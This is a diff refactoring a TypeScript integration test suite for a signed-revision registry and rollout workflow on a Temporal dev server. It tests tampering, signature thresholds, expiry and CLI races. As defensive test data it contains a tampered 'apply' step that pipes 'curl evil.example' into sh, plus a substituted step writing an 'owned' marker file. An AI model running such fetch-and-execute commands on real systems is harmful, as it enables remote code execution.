@@ -2,7 +2,6 @@ import { createHash, randomBytes } from 'node:crypto';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { ed25519 } from '@noble/curves/ed25519.js';
-import type { TestWorkflowEnvironment } from '@temporalio/testing';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stringify as toYaml } from 'yaml';
 import { createRegistryActivities } from '../../activities/registry';
@@ -12,16 +11,16 @@ import { getEnvelope, listRevisions, newestRevisionAbove, registerEnvelope } fro
 import { registryWorkflowId } from '../../contracts/registry';
 import { fromBase64, toBase64, utf8Decode, utf8Encode } from '../../core/bytes';
 import { canonicalize } from '../../core/canonical';
-import { WavegateError } from '../../core/errors';
 import type { Revision } from '../../core/revision';
 import { cosignEnvelope, keyPairFromSeed, pinOf, signRevision, type Envelope, type KeyPair } from '../../core/signing';
 import { demoDevices, type Fleet } from '../../sim';
-import { startDevServerEnv } from '../../workers/dev-server';
 import { PROJECT_ROOT } from '../../intake/package-layout';
 import { statusQuery, type RolloutStatus } from '../../contracts/rollout';
 import { rolloutWorkflow, type RolloutInput } from '../../workflows/rollout';
 import { runCli } from '../support/cli';
-import { fleetWithInventory, scratchDir, startTestWorker } from '../support/harness';
+import { fleetWithInventory, } from '../support/harness';
+import { realRollouts } from '../support/real-rollouts';
+import { rejection } from '../support/refusal';
 
 /**
  * The revision registry (docs/architecture.md, "Signed revisions and the registry") on a real Temporal dev server: registration through
@@ -59,36 +58,15 @@ function tamper(envelope: Envelope, change: (body: Record<string, unknown>) => v
   return { ...envelope, body: toBase64(utf8Encode(canonicalize(body))) };
 }
 
-async function refusal(promise: Promise<unknown>): Promise<WavegateError> {
-  const err = await promise.then(
-    () => undefined,
-    (e: unknown) => e,
-  );
-  expect(err, 'expected a refusal').toBeInstanceOf(WavegateError);
-  return err as WavegateError;
-}
-
 describe('revision registry on a real Temporal dev server', () => {
-  let env: TestWorkflowEnvironment;
-  let worker: Awaited<ReturnType<typeof startTestWorker>>;
-  const scratch = scratchDir('registry');
+  const real = realRollouts('registry');
   const register = (profile: string, envelope: unknown, by = 'test', extra: { continueAsNewAfterEvents?: number } = {}) =>
-    registerEnvelope(env.client, { profile, envelope, trustDoc, by, taskQueue: worker.taskQueue, ...extra });
+    registerEnvelope(real.env.client, { profile, envelope, trustDoc, by, taskQueue: real.worker.taskQueue, ...extra });
   /** Update events in the registry's current run: refused registrations must leave none. */
   const acceptedUpdates = async (profile: string) => {
-    const history = await env.client.workflow.getHandle(registryWorkflowId(profile)).fetchHistory();
+    const history = await real.env.client.workflow.getHandle(registryWorkflowId(profile)).fetchHistory();
     return (history.events ?? []).filter((e) => e.workflowExecutionUpdateAcceptedEventAttributes).length;
   };
-
-  beforeAll(async () => {
-    env = await startDevServerEnv();
-    worker = await startTestWorker(env, { auditDir: join(scratch.dir, 'audit') });
-  });
-  afterAll(async () => {
-    await worker?.stop();
-    await env?.teardown();
-    scratch.cleanup();
-  });
 
   it('registers, lists and returns the envelope; the same envelope again is "existing" with nothing added', async () => {
     const r1 = signed(revisionOf('reg-basic', 1));
@@ -97,7 +75,7 @@ describe('revision registry on a real Temporal dev server', () => {
     const second = await register('reg-basic', r2, 'bob');
     expect(second).toMatchObject({ outcome: 'registered', revision: 2 });
 
-    const list = await listRevisions(env.client, 'reg-basic');
+    const list = await listRevisions(real.env.client, 'reg-basic');
     expect(list.map((r) => [r.revision, r.by, r.risk, r.provable, r.signers.length])).toEqual([
       [1, 'alice', 'risky', true, 2],
       [2, 'bob', 'risky', false, 2], // `verify: true` reads nothing back
@@ -105,35 +83,35 @@ describe('revision registry on a real Temporal dev server', () => {
     expect(list[1]!.bodyDigest).toBe(second.bodyDigest);
     expect(Date.parse(list[0]!.expiresAt!)).toBeGreaterThan(Date.now() + 29 * DAY);
     expect(Date.parse(list[0]!.registeredAt)).toBeLessThanOrEqual(Date.now());
-    expect(await getEnvelope(env.client, 'reg-basic', 2)).toEqual(r2);
+    expect(await getEnvelope(real.env.client, 'reg-basic', 2)).toEqual(r2);
 
     const again = await register('reg-basic', r1, 'carol');
     expect(again).toMatchObject({ outcome: 'existing', revision: 1 });
-    expect((await listRevisions(env.client, 'reg-basic')).map((r) => [r.revision, r.by])).toEqual([[1, 'alice'], [2, 'bob']]);
+    expect((await listRevisions(real.env.client, 'reg-basic')).map((r) => [r.revision, r.by])).toEqual([[1, 'alice'], [2, 'bob']]);
 
-    expect((await refusal(getEnvelope(env.client, 'reg-basic', 9))).code).toBe('NOT_FOUND');
-    expect((await refusal(listRevisions(env.client, 'reg-nobody'))).code).toBe('NOT_FOUND');
-    expect((await refusal(getEnvelope(env.client, 'reg-nobody', 1))).code).toBe('NOT_FOUND');
+    expect((await rejection(getEnvelope(real.env.client, 'reg-basic', 9))).code).toBe('NOT_FOUND');
+    expect((await rejection(listRevisions(real.env.client, 'reg-nobody'))).code).toBe('NOT_FOUND');
+    expect((await rejection(getEnvelope(real.env.client, 'reg-nobody', 1))).code).toBe('NOT_FOUND');
   });
 
   it('refuses the same number with other content (CONFLICT), below threshold, a tampered or non-canonical body, expired and lower-numbered envelopes; nothing is stored', async () => {
     const p = 'reg-refuse';
     const r3 = signed(revisionOf(p, 3));
     await register(p, r3);
-    const before = await listRevisions(env.client, p);
+    const before = await listRevisions(real.env.client, p);
     const updatesBefore = await acceptedUpdates(p);
 
-    const conflict = await refusal(register(p, signed(revisionOf(p, 3, { description: 'other content' }))));
+    const conflict = await rejection(register(p, signed(revisionOf(p, 3, { description: 'other content' }))));
     expect(conflict.code).toBe('CONFLICT');
     expect(conflict.details.reason).toBe('CONFLICT');
 
     const onlyA = signRevision(revisionOf(p, 4), keyA, { now: Date.now(), validityDays: 30 });
-    const below = await refusal(register(p, onlyA));
+    const below = await rejection(register(p, onlyA));
     expect([below.code, below.details.reason]).toEqual(['INVALID_INPUT', 'BELOW_THRESHOLD']);
     expect(below.message).toMatch(/1 distinct pinned signer\(s\), 2 required/);
 
     const tampered = tamper(signed(revisionOf(p, 5)), (body) => (body.apply = 'curl evil.example | sh'));
-    expect((await refusal(register(p, tampered))).details.reason).toBe('BAD_SIGNATURE');
+    expect((await rejection(register(p, tampered))).details.reason).toBe('BAD_SIGNATURE');
 
     // Validly signed by both keys, but over pretty-printed JSON: not the canonical form.
     const pretty = utf8Encode(JSON.stringify({ ...revisionOf(p, 6), expiresAt: new Date(Date.now() + DAY).toISOString() }, null, 2));
@@ -141,39 +119,39 @@ describe('revision registry on a real Temporal dev server', () => {
       body: toBase64(pretty),
       signatures: [keyA, keyB].map((k) => ({ kid: k.kid, alg: 'Ed25519' as const, sig: toBase64(ed25519.sign(pretty, k.secretKey)) })),
     };
-    expect((await refusal(register(p, nonCanonical))).details.reason).toBe('NOT_CANONICAL');
+    expect((await rejection(register(p, nonCanonical))).details.reason).toBe('NOT_CANONICAL');
 
     const expired = signed(revisionOf(p, 7, { expiresAt: '2020-01-01T00:00:00Z' }));
-    const exp = await refusal(register(p, expired));
+    const exp = await rejection(register(p, expired));
     expect(exp.details.reason).toBe('EXPIRED');
     expect(exp.message).toContain('2020-01-01T00:00:00Z');
 
-    const lower = await refusal(register(p, signed(revisionOf(p, 2))));
+    const lower = await rejection(register(p, signed(revisionOf(p, 2))));
     expect([lower.code, lower.details.reason]).toEqual(['INVALID_INPUT', 'NOT_ABOVE_CURRENT']);
 
-    const wrongProfile = await refusal(register(p, signed(revisionOf('reg-other', 8))));
+    const wrongProfile = await rejection(register(p, signed(revisionOf('reg-other', 8))));
     expect(wrongProfile.details.reason).toBe('WRONG_PROFILE');
 
-    expect(await listRevisions(env.client, p)).toEqual(before);
+    expect(await listRevisions(real.env.client, p)).toEqual(before);
     // Refused by the update validator: not one of them reached the history.
     expect(await acceptedUpdates(p)).toBe(updatesBefore);
   });
 
   it('two CLI processes racing to register the same envelope both succeed, and it is stored once; refusals exit 2 with the reason code', async () => {
     const p = 'reg-race';
-    const envelopePath = join(scratch.dir, 'race-1.json');
-    const trustPath = join(scratch.dir, 'race-trust.yaml');
+    const envelopePath = join(real.dir, 'race-1.json');
+    const trustPath = join(real.dir, 'race-trust.yaml');
     writeFileSync(envelopePath, JSON.stringify(signed(revisionOf(p, 1)), null, 2));
     writeFileSync(trustPath, toYaml(trustDoc));
-    const conn = ['--address', env.address, '--namespace', env.namespace ?? 'default'];
-    const registerCli = (path: string, by: string) => runCli(['register', path, '--trust', trustPath, '--by', by, ...conn, '--task-queue', worker.taskQueue]);
+    const conn = ['--address', real.env.address, '--namespace', real.env.namespace ?? 'default'];
+    const registerCli = (path: string, by: string) => runCli(['register', path, '--trust', trustPath, '--by', by, ...conn, '--task-queue', real.worker.taskQueue]);
 
     // The registry does not exist yet: both race to create it as well.
     const [one, two] = await Promise.all([registerCli(envelopePath, 'proc-1'), registerCli(envelopePath, 'proc-2')]);
     expect([one.code, two.code], one.stderr + two.stderr).toEqual([0, 0]);
     const outcomes = [one.stdout, two.stdout].map((s) => /^(registered|existing) reg-race r1 /.exec(s)?.[1]).sort();
     expect(outcomes).toEqual(['existing', 'registered']);
-    const list = await listRevisions(env.client, p);
+    const list = await listRevisions(real.env.client, p);
     expect(list).toHaveLength(1);
     expect(['proc-1', 'proc-2']).toContain(list[0]!.by);
 
@@ -181,7 +159,7 @@ describe('revision registry on a real Temporal dev server', () => {
     expect(listed.code, listed.stderr).toBe(0);
     expect((JSON.parse(listed.stdout) as Array<{ revision: number }>).map((r) => r.revision)).toEqual([1]);
 
-    const belowPath = join(scratch.dir, 'race-2-below.json');
+    const belowPath = join(real.dir, 'race-2-below.json');
     writeFileSync(belowPath, JSON.stringify(signRevision(revisionOf(p, 2), keyA, { now: Date.now(), validityDays: 30 })));
     const refused = await registerCli(belowPath, 'proc-3');
     expect(refused.code).toBe(2);
@@ -190,12 +168,12 @@ describe('revision registry on a real Temporal dev server', () => {
     const unknown = await runCli(['revisions', 'list', '--profile', 'reg-none', ...conn]);
     expect(unknown.code).toBe(2);
     expect(unknown.stderr).toMatch(/NOT_FOUND: profile "reg-none" has no revision registry/);
-    expect(await listRevisions(env.client, p)).toHaveLength(1);
+    expect(await listRevisions(real.env.client, p)).toHaveLength(1);
   });
 
   it('continues as new carrying its registrations once its history passes the limit', async () => {
     const p = 'reg-can';
-    const handle = env.client.workflow.getHandle(registryWorkflowId(p));
+    const handle = real.env.client.workflow.getHandle(registryWorkflowId(p));
     const envelopes = [1, 2, 3, 5, 6, 7, 8, 9].map((n) => signed(revisionOf(p, n)));
     // Each accepted registration writes 5 events (workflow task scheduled/started/completed, update
     // accepted/completed): a limit of 12 events continues as new every few registrations.
@@ -206,29 +184,29 @@ describe('revision registry on a real Temporal dev server', () => {
     const now = await handle.describe();
     expect(now.runId).not.toBe(firstRunId);
     expect(now.status.name).toBe('RUNNING');
-    const firstRun = await env.client.workflow.getHandle(registryWorkflowId(p), firstRunId).fetchHistory();
+    const firstRun = await real.env.client.workflow.getHandle(registryWorkflowId(p), firstRunId).fetchHistory();
     expect(firstRun.events?.at(-1)?.workflowExecutionContinuedAsNewEventAttributes).toBeTruthy();
     // The current run's history stays short: it started from carried state, not from a replay of all.
     expect((await handle.fetchHistory()).events!.length).toBeLessThan(20);
 
-    expect((await listRevisions(env.client, p)).map((r) => r.revision)).toEqual([1, 2, 3, 5, 6, 7, 8, 9]);
+    expect((await listRevisions(real.env.client, p)).map((r) => r.revision)).toEqual([1, 2, 3, 5, 6, 7, 8, 9]);
     expect((await register(p, envelopes[2])).outcome).toBe('existing');
-    expect((await refusal(register(p, signed(revisionOf(p, 9, { description: 'again' }))))).code).toBe('CONFLICT');
+    expect((await rejection(register(p, signed(revisionOf(p, 9, { description: 'again' }))))).code).toBe('CONFLICT');
     // 4 was never registered, but 9 was: the carried state still keeps the channel from moving backwards.
-    expect((await refusal(register(p, signed(revisionOf(p, 4))))).details.reason).toBe('NOT_ABOVE_CURRENT');
-    expect(await getEnvelope(env.client, p, 1)).toEqual(envelopes[0]);
+    expect((await rejection(register(p, signed(revisionOf(p, 4))))).details.reason).toBe('NOT_ABOVE_CURRENT');
+    expect(await getEnvelope(real.env.client, p, 1)).toEqual(envelopes[0]);
   });
 
   it('newestRevisionAbove skips expired revisions (client and activity)', async () => {
     const p = 'reg-newest';
     await register(p, signed(revisionOf(p, 1)));
     await register(p, signed(revisionOf(p, 2, { expiresAt: new Date(Date.now() + 3_000).toISOString() })));
-    const activities = createRegistryActivities({ client: env.client });
-    expect((await newestRevisionAbove(env.client, p, 0))?.revision).toBe(2);
+    const activities = createRegistryActivities({ client: real.env.client });
+    expect((await newestRevisionAbove(real.env.client, p, 0))?.revision).toBe(2);
     expect((await activities.newestRevisionAbove({ profile: p, above: 0 }))?.revision).toBe(2);
-    expect(await newestRevisionAbove(env.client, p, 2)).toBeNull();
+    expect(await newestRevisionAbove(real.env.client, p, 2)).toBeNull();
     await new Promise((r) => setTimeout(r, 3_200));
-    expect((await newestRevisionAbove(env.client, p, 0))?.revision).toBe(1);
+    expect((await newestRevisionAbove(real.env.client, p, 0))?.revision).toBe(1);
     expect(await activities.newestRevisionAbove({ profile: p, above: 1 })).toBeNull();
     await expect(activities.newestRevisionAbove({ profile: 'reg-nobody', above: 0 })).rejects.toMatchObject({ type: 'Registry.NOT_FOUND', nonRetryable: true });
   });
@@ -238,14 +216,14 @@ describe('revision registry on a real Temporal dev server', () => {
     let inventoryPath: string;
     let specPath: string;
     const R2_STAGING = /staging\/demo\/2"/;
-    const seed = () => ({ profile: 'demo', profileDir: join(PROJECT_ROOT, 'profiles', 'demo'), by: 'wavegate dev', taskQueue: worker.taskQueue });
+    const seed = () => ({ profile: 'demo', profileDir: join(PROJECT_ROOT, 'profiles', 'demo'), by: 'wavegate dev', taskQueue: real.worker.taskQueue });
     let firstRegistration: Array<[number, string]>;
 
     beforeAll(async () => {
       // What `wavegate demo` / `dev --demo` do at start-up.
-      firstRegistration = (await registerProfileEnvelopes(env.client, seed())).map((r) => [r.revision, r.outcome]);
-      ({ fleet, inventoryPath } = await fleetWithInventory(scratch.dir, demoDevices(4), { 'pool-a': 0.5, 'pool-b': 0.5 }));
-      specPath = join(scratch.dir, 'demo-spec.yaml');
+      firstRegistration = (await registerProfileEnvelopes(real.env.client, seed())).map((r) => [r.revision, r.outcome]);
+      ({ fleet, inventoryPath } = await fleetWithInventory(real.dir, demoDevices(4), { 'pool-a': 0.5, 'pool-b': 0.5 }));
+      specPath = join(real.dir, 'demo-spec.yaml');
       writeFileSync(
         specPath,
         toYaml({ rollout: { profile: 'demo', fromRevision: 1, toRevision: 2, strategy: 'phased', phases: [{ canary: '1 device', gateMs: 500 }, { bulk: 'remainder', gateMs: 500 }], rollback: { on: 'healthGate-fail' } } }),
@@ -260,7 +238,7 @@ describe('revision registry on a real Temporal dev server', () => {
      * which (rollback on health-gate failures only) pauses for an operator with the device states intact.
      */
     const runUntilSettled = async (input: RolloutInput): Promise<RolloutStatus> => {
-      const handle = await env.client.workflow.start(rolloutWorkflow, { workflowId: input.rolloutId, taskQueue: worker.taskQueue, args: [input] });
+      const handle = await real.env.client.workflow.start(rolloutWorkflow, { workflowId: input.rolloutId, taskQueue: real.worker.taskQueue, args: [input] });
       const deadline = Date.now() + 60_000;
       for (;;) {
         const status = await handle.query(statusQuery);
@@ -274,13 +252,13 @@ describe('revision registry on a real Temporal dev server', () => {
     };
 
     const registeredInput = async (rolloutId: string): Promise<RolloutInput> => ({
-      ...(await prepareRollout({ specPath, inventoryPath, profilesDir: join(PROJECT_ROOT, 'profiles'), startedBy: 'test', client: env.client })),
+      ...(await prepareRollout({ specPath, inventoryPath, profilesRoot: join(PROJECT_ROOT, 'profiles'), startedBy: 'test', client: real.env.client })),
       rolloutId,
     });
 
     it('the demo start-up registration is idempotent, and prepareRollout with a client takes the registered envelopes', async () => {
       expect(firstRegistration).toEqual([[1, 'registered'], [2, 'registered']]);
-      expect((await registerProfileEnvelopes(env.client, seed())).map((r) => [r.revision, r.outcome])).toEqual([[1, 'existing'], [2, 'existing']]);
+      expect((await registerProfileEnvelopes(real.env.client, seed())).map((r) => [r.revision, r.outcome])).toEqual([[1, 'existing'], [2, 'existing']]);
 
       const input = await registeredInput('rollout:demo-registry-0');
       const committed = (n: number) => JSON.parse(readFileSync(join(PROJECT_ROOT, 'profiles/demo/envelopes', `${n}.json`), 'utf8')) as Envelope;
@@ -326,7 +304,7 @@ describe('revision registry on a real Temporal dev server', () => {
       fleet.resetCounters();
       const input = await registeredInput('rollout:demo-registry-substituted');
       input.steps = { ...input.steps, apply: 'touch "$HOME/owned"', verify: 'true' };
-      const handle = await env.client.workflow.start(rolloutWorkflow, { workflowId: input.rolloutId, taskQueue: worker.taskQueue, args: [input] });
+      const handle = await real.env.client.workflow.start(rolloutWorkflow, { workflowId: input.rolloutId, taskQueue: real.worker.taskQueue, args: [input] });
       const result = await handle.result();
 
       expect(result.state, JSON.stringify(result.devices)).toBe('completed');
